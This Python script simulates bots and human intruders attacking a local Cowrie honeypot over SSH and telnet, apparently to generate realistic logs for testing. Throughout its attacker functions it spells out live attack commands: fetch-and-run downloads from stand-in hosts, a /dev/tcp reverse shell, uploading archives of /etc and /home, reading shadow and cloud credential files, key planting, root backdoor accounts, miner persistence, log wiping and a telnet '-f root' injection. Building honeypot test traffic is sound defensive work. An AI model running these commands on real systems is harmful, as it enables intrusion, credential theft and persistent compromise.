# SPDX-License-Identifier: AGPL-3.0-or-later
"""Attacks the Cowrie that record_cowrie.sh started, as bots and as people do.

Every attacker has a loopback address of its own. OpenSSH's clients and telnet are the real
ones; two of the bots are Paramiko, as many bots are. Nothing that is sent does harm: Cowrie
runs no command, and what it downloads are text files of our own.
"""

import base64
import contextlib
import os
import pathlib
import random
import shutil
import socket
import subprocess
import tempfile
import threading
import time

import paramiko
import pexpect

HOST = "127.0.0.1"
SSH_PORT = 2222
TELNET_PORT = 2223
FILES = "http://192.0.0.9"
OPTIONS = [
    "-o", "StrictHostKeyChecking=no",
    "-o", "UserKnownHostsFile=/dev/null",
    "-o", "LogLevel=ERROR",
    "-o", "NumberOfPasswordPrompts=1",
]
PASSWORD_ONLY = ["-o", "PubkeyAuthentication=no"]
# A bot has no system-wide configuration, so it sends no LANG.
BOT = ["-F", "none", *PASSWORD_ONLY]
CTRL_C = "\x03"
CTRL_D = "\x04"

typing = random.Random(7)
scratch = pathlib.Path(tempfile.mkdtemp(prefix="attack-"))


def openssh(source, user, password, *command, stdin=b"", options=()):
    """Runs one OpenSSH client with a password, as a bot's script does."""
    line = ["sshpass", "-p", password, "ssh", "-b", source, "-p", str(SSH_PORT)]
    line += [*OPTIONS, *(options or BOT), f"{user}@{HOST}", *command]
    run(line, stdin)


def run(line, stdin=b""):
    """Runs a client until it ends or loses patience; how it ended is for Cowrie to tell."""
    with contextlib.suppress(subprocess.TimeoutExpired):
        subprocess.run(line, input=stdin, capture_output=True, timeout=20, check=False)


def key_pair(name, comment):
    """Makes an Ed25519 key and returns its public half."""
    path = scratch / name
    subprocess.run(
        ["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", comment, "-f", path], check=True
    )
    return path, path.with_suffix(".pub").read_text().strip()


def paramiko_login(source, user, passwords):
    """Tries passwords over one connection; the last one has to work."""
    link = socket.create_connection((HOST, SSH_PORT), source_address=(source, 0))
    transport = paramiko.Transport(link)
    transport.start_client(timeout=30)
    for password in passwords:
        try:
            transport.auth_password(user, password, fallback=False)
        except paramiko.AuthenticationException:
            time.sleep(0.3)
    return transport


def paramiko_exec(transport, command):
    """Runs one command on a channel of its own and waits for its end."""
    channel = transport.open_session()
    channel.settimeout(20)
    # Cowrie may close the channel of a short command before it confirms it.
    with contextlib.suppress(paramiko.SSHException, TimeoutError):
        channel.exec_command(command)
        while channel.recv(4096):
            pass
    channel.close()


class Person:
    """Somebody at a keyboard: types a line, reads what comes, types the next."""

    def __init__(self, line, size=(40, 132)):
        self.child = pexpect.spawn(line[0], list(map(str, line[1:])), dimensions=size, timeout=15)

    def answer(self, prompt, text):
        self.child.expect(prompt)
        self.keys(text + "\r")

    def keys(self, text):
        for key in text:
            self.child.send(key)
            time.sleep(typing.uniform(0.01, 0.06))

    def type(self, *lines):
        for line in lines:
            with contextlib.suppress(pexpect.TIMEOUT):
                self.child.expect(r"[#$>] $", timeout=8)
            time.sleep(typing.uniform(0.5, 1.6))
            self.keys(line + "\r")

    def say(self, *lines):
        """Types where no prompt comes back."""
        for line in lines:
            time.sleep(typing.uniform(0.5, 1.2))
            self.keys(line if line in (CTRL_C, CTRL_D) else line + "\r")

    def leave(self):
        with contextlib.suppress(pexpect.TIMEOUT):
            self.child.expect(pexpect.EOF, timeout=5)
        self.child.close(force=True)


def person_by_ssh(source, user, password):
    options = ["-b", source, "-p", SSH_PORT, *OPTIONS, *PASSWORD_ONLY]
    person = Person(["ssh", *options, f"{user}@{HOST}"])
    person.answer("assword:", password)
    return person


# Bots


def port_scanner(source):
    """Looks what answers: a bare connection, then HTTP where SSH is."""
    request = b"GET / HTTP/1.1\r\nHost: 127.0.0.1:2222\r\nUser-Agent: Mozilla/5.0\r\n\r\n"
    for greeting in (b"", request):
        with socket.create_connection((HOST, SSH_PORT), source_address=(source, 0)) as link:
            link.recv(256)
            link.sendall(greeting)
            time.sleep(0.5)


def scanner(source):
    """Tries a word list on one connection after another and never gets in."""
    for user, password in [
        ("root", "123456"), ("root", "root"), ("root", "toor"), ("root", "P@ssw0rd"),
        ("admin", "admin123"), ("test", "test"), ("oracle", "oracle"), ("postgres", "postgres"),
    ]:
        openssh(source, user, password, "uname -s -v -n -r -m")


def word_list_bot(source):
    """Guesses and, once inside, looks round, all on one connection."""
    guesses = ["password", "12345678", "qwerty", b"\xe4\xf6\xfc123", "root123", "1qaz2wsx"]
    transport = paramiko_login(source, "root", guesses)
    for command in [
        "uname -s -v -n -r -m",
        "cat /proc/cpuinfo | grep name | wc -l",
        "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
        "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
        "ls -lh $(which ls)",
        "which ls",
        "crontab -l",
        "w",
        "uname -m",
        "cat /proc/cpuinfo | grep model | grep name | wc -l",
        "lscpu | grep Model",
        "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'",
    ]:
        paramiko_exec(transport, command)
    transport.close()


def key_planting_bot(source):
    """Takes the account over: a key of its own, a new password, rivals killed."""
    _, public = key_pair("planted", "rsync-backup")
    openssh(source, "root", "admin1", "cd ~; chattr -ia .ssh; lockr -ia .ssh")
    for command in [
        "cd ~; chattr -ia .ssh; lockr -ia .ssh",
        f'cd ~ && rm -rf .ssh && mkdir .ssh && echo "{public}">>.ssh/authorized_keys'
        " && chmod -R go= ~/.ssh && cd ~",
        'echo "root:aB3xYq81LmZk"|chpasswd|bash',
        "rm -rf /tmp/secure.sh; rm -rf /tmp/auth.sh; pkill -9 secure.sh; pkill -9 auth.sh;"
        " echo > /etc/hosts.deny; pkill -9 sleep;",
        "cat /proc/cpuinfo | grep name | wc -l",
    ]:
        openssh(source, "root", "admin", command)


def dropper_bot(source):
    """Fetches the same file in every way it knows and runs what it got."""
    openssh(source, "root", "default", "sh")
    openssh(
        source, "root", "admin",
        "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /;"
        f" wget {FILES}/bins.sh; curl -O {FILES}/bins.sh; chmod 777 bins.sh; sh bins.sh;"
        " tftp 192.0.0.9 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh;"
        " ftpget -v -u anonymous -p anonymous -P 21 192.0.0.9 ftp1.sh ftp1.sh; sh ftp1.sh;"
        " rm -rf bins.sh tftp1.sh ftp1.sh; rm -rf *",
    )
    openssh(
        source, "root", "admin",
        "cd /tmp; wget -q http://cdn.example/bins/x86_64 -O .x; chmod +x .x; ./.x ssh.selfrep; rm -f .x",
    )
    openssh(source, "root", "admin", "wget http://192.0.0.9:8081/arm7 -O /tmp/a7; chmod +x /tmp/a7; /tmp/a7")
    openssh(source, "root", "admin", "curl -fsSL http://update.example/setup.sh | sh")
    openssh(source, "root", "admin", "wget -qO- http://update.example/setup.sh | bash")
    openssh(source, "root", "admin", "curl -s http://127.0.0.1/x | sh; curl -sLO http://update.example/gone")


def mining_bot(source):
    """Counts the cores, removes other miners, starts its own, stays by crontab."""
    hidden = base64.b64encode(b"uname -a; id; nproc\n").decode()
    transport = paramiko_login(source, "ubuntu", ["ubuntu1", "ubuntu"])
    for command in [
        "nproc; uname -m; cat /etc/issue",
        "ps aux | grep -v grep | grep -E 'xmrig|kinsing|kdevtmpfsi' | awk '{print $2}' | xargs kill -9",
        "pkill -f xmrig; pkill -f minerd; killall -9 kdevtmpfsi",
        "mkdir -p /var/tmp/.c && cd /var/tmp/.c && curl -s -o kthreadd http://update.example/miner && chmod 755 kthreadd",
        "cd /var/tmp/.c; nohup ./kthreadd -o stratum+tcp://pool.example:3333 -u 4NoWalletOfAnyone"
        " -p x --donate-level 1 --cpu-max-threads-hint 75 >/dev/null 2>&1 &",
        f'(crontab -l 2>/dev/null; echo "*/5 * * * * curl -fsSL {FILES}/miner | sh") | crontab -',
        "sysctl -w vm.nr_hugepages=128",
        f"echo {hidden} | base64 -d | sh",
        f"echo {hidden}|base64 --decode|bash",
        "systemctl stop firewalld; iptables -F; ufw disable; setenforce 0",
    ]:
        paramiko_exec(transport, command)
    transport.close()


def account_bot(source):
    """Adds users, reads the shadow file, wipes its traces."""
    for command in [
        "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysadm; echo sysadm:Zx9kk21q | chpasswd",
        "cat /etc/shadow | grep -v '*' | cut -d: -f1,2",
        "echo 'support:x:0:0::/root:/bin/bash' >> /etc/passwd",
        "usermod -aG sudo backup; echo 'backup ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/backup",
        "echo '<h1>0wn3d ☠ by n0b0dy</h1>' > /var/www/html/index.html",
        "unset HISTFILE; export HISTSIZE=0; history -c; rm -f ~/.bash_history; ln -s /dev/null ~/.bash_history",
        "echo > /var/log/wtmp; echo > /var/log/lastlog; rm -rf /var/log/auth.log; touch -r /bin/ls /tmp/.x",
    ]:
        openssh(source, "root", "1qaz2wsx", command)


def uploading_bot(source):
    """Brings its own payload: by standard input, by SFTP, and by both protocols of scp."""
    payload = scratch / "kworker"
    payload.write_bytes(b"# a harmless text file, uploaded\n")
    openssh(
        source, "root", "Passw0rd", "cat > /tmp/.k; chmod +x /tmp/.k; /tmp/.k",
        stdin=b"# a harmless text file, by standard input\n",
    )
    to = f"root@{HOST}:/tmp/"
    for protocol in ([], ["-O"]):
        run(["sshpass", "-p", "Passw0rd", "scp", *protocol, "-P", str(SSH_PORT), *OPTIONS,
             *BOT, "-o", f"BindAddress={source}", payload, to])
    batch = scratch / "batch"
    batch.write_text(f"cd /var/tmp\nput {payload} .kworker\nchmod 755 .kworker\nls -la\nbye\n")
    # A batch file switches passwords off; this switches them on again.
    run(["sshpass", "-p", "Passw0rd", "sftp", "-P", str(SSH_PORT), *OPTIONS, *BOT,
         "-o", f"BindAddress={source}", "-o", "BatchMode=no", "-b", batch, f"root@{HOST}"])
    openssh(source, "root", "Passw0rd", "chmod +x /tmp/kworker && /tmp/kworker; nohup /var/tmp/.kworker &")


def proxy_bot(source):
    """Wants no shell: asks for a way out through the server."""
    request = b"GET / HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Go-http-client/1.1\r\n\r\n"
    openssh(source, "root", "admin", stdin=request, options=[*BOT, "-W", "www.example.com:80"])
    forward = ["sshpass", "-p", "admin", "ssh", "-N", "-b", source, "-p", str(SSH_PORT), *OPTIONS,
               *BOT, "-L", "127.0.0.1:8443:mail.example.com:443", f"root@{HOST}"]
    tunnel = subprocess.Popen(forward, stdin=subprocess.DEVNULL)
    time.sleep(3)
    run(["curl", "-sk", "-m", "3", "--resolve", "mail.example.com:8443:127.0.0.1",
         "https://mail.example.com:8443/"])
    tunnel.terminate()
    tunnel.wait()


def key_guessing_bot(source):
    """Offers keys, then a password; Cowrie takes neither."""
    for name in ("id_a", "id_b"):
        path, _ = key_pair(name, "deploy")
        options = ["-F", "none", "-i", path, "-o", "IdentitiesOnly=yes"]
        openssh(source, "git", "git123", "id", options=options)


def telnet_bot(source):
    """What a Mirai descendant types after its default password."""
    person = Person(["telnet", "-b", source, HOST, TELNET_PORT])
    for password in ("vizxv", "xc3511"):
        person.answer("login: ", "root")
        person.answer("assword: ", password)
    person.type(
        "enable",
        "system",
        "shell",
        "sh",
        "cat /proc/mounts; /bin/busybox ECCHI",
        "cd /dev/shm; cat .s || cp /bin/echo .s; /bin/busybox ECCHI",
        "tftp; wget; /bin/busybox ECCHI",
        "dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s",
        f"/bin/busybox wget {FILES}/bins/arm7 -O - > .n; /bin/busybox chmod 777 .n; ./.n telnet.arm7",
        r'echo -ne "\x7f\x45\x4c\x46\x02\x01\x01" > .d; chmod +x .d; ./.d; rm -rf .d',
        "/bin/busybox ps; /bin/busybox kill -9 1337",
        "exit",
    )
    person.leave()


def telnet_exploit_bot(source):
    """Hands telnetd a user name that login takes for options (CVE-2026-24061)."""
    will = b"\xff\xfb\x27"  # IAC WILL NEW-ENVIRON
    user = b"\xff\xfa\x27\x00\x00USER\x01-f root\xff\xf0"  # IAC SB … IS VAR USER … IAC SE
    with socket.create_connection((HOST, TELNET_PORT), source_address=(source, 0)) as link:
        link.sendall(will)
        time.sleep(1)
        link.sendall(user + b"\r\n")
        time.sleep(2)


# People


def intruder(source):
    """Feels the way round by hand, mistypes, looks for a way up and to the neighbours."""
    openssh(source, "root", "Password1")
    person = person_by_ssh(source, "root", "Passw0rd")
    person.type(
        "w",
        "id",
        "uanme -a",
        "uname -a",
        "ls -la",
        "pwd",
        "cat /etc/passwd",
        "cat /etc/shadow",
        "ps aux",
        "netstat -tulpn",
        "ip a",
        "ifconfig",
        "arp -a",
        "cat /etc/hosts; cat /etc/resolv.conf",
        "cd /vra/log",
        "cd /var/log",
        "sl",
        "ls",
        "find / -perm -4000 -type f 2>/dev/null",
        "sudo -l",
        "nmap -sn 10.0.0.0/24",
        "which python python3 perl gcc nc",
        "python -c 'import pty; pty.spawn(\"/bin/bash\")'",
    )
    # Cowrie's Python waits for its standard input.
    person.say("id", CTRL_C)
    person.type(
        "wget http://update.example/linpeas.sh",
        "chmod +x linpeas.sh",
        "./linpeas.sh | tee /tmp/out.txt",
        "history",
        "cat ~/.bash_history",
        "lsmod | head",
        "getent passwd | awk -F: '$3 == 0'",
        "mkdir -p ~/.ssh && chmod 700 ~/.ssh",
        "cat >> ~/.ssh/authorized_keys",
    )
    _, public = key_pair("intruder", "kali")
    person.say(public, CTRL_D)
    person.type("passwd")
    person.say("Tr0ub4dor&3", "Tr0ub4dor&3")
    person.type("rm linpeas.sh /tmp/out.txt", "exit")
    person.leave()


def thief(source):
    """Looks for passwords and files worth taking, and tries for a shell that calls back."""
    person = person_by_ssh(source, "deploy", "Sommer2024")
    person.type(
        "whoami && hostname",
        "ls -la /home /var/www",
        "cat /var/www/html/.env",
        "grep -ri password /etc/*.conf 2>/dev/null | head",
        "find / -name id_rsa -o -name '*.pem' 2>/dev/null",
        "cat ~/.ssh/known_hosts",
        "cat ~/.aws/credentials",
        "mysqldump -u root -p --all-databases > /tmp/db.sql",
        "tar czf /tmp/.b.tgz /etc /home",
        "curl -s -F file=@/tmp/.b.tgz http://192.0.0.9/up",
        "bash -i >& /dev/tcp/192.0.0.9/4444 0>&1",
        "docker ps",
        "kubectl get secrets",
        "perl -e 'use Socket;exec(\"/bin/sh -i\");'",
    )
    person.say(CTRL_C)
    person.type(
        "export HISTFILE=/dev/null",
        "exit",
    )
    person.leave()


def administrator(source):
    """Does an honest morning's work, after a slip at the password."""
    openssh(source, "admin", "admni")
    person = person_by_ssh(source, "admin", "admin")
    person.type(
        "uptime",
        "df -h",
        "free -m",
        "ls",
        "cat readme.txt",
        "vi readme.txt",
        "date",
        "cat nginx.conf | grep listen",
        "cd /var/log",
        "ls -lh",
        "tail -n 20 syslog",
        "du -sh .",
        "last | head -5",
        "systemctl status nginx",
        "apt list --upgradable",
        "cd",
        "exit",
    )
    person.leave()


def main():
    # Some at the same time, so that sessions interleave as they do on a real sensor.
    waves = [
        [(port_scanner, "127.0.0.10"), (scanner, "127.0.0.11"), (administrator, "127.0.0.50")],
        [(word_list_bot, "127.0.0.12"), (intruder, "127.0.0.40")],
        [(key_planting_bot, "127.0.0.13"), (telnet_bot, "127.0.0.21"), (thief, "127.0.0.41")],
        [(dropper_bot, "127.0.0.14"), (mining_bot, "127.0.0.15"), (account_bot, "127.0.0.16")],
        [(uploading_bot, "127.0.0.17"), (proxy_bot, "127.0.0.18"), (key_guessing_bot, "127.0.0.19"),
         (telnet_exploit_bot, "127.0.0.22")],
    ]
    os.chdir(scratch)
    for wave in waves:
        threads = [threading.Thread(target=what, args=(source,)) for what, source in wave]
        for thread in threads:
            thread.start()
            time.sleep(0.7)
        for thread in threads:
            thread.join()
    shutil.rmtree(scratch)


main()
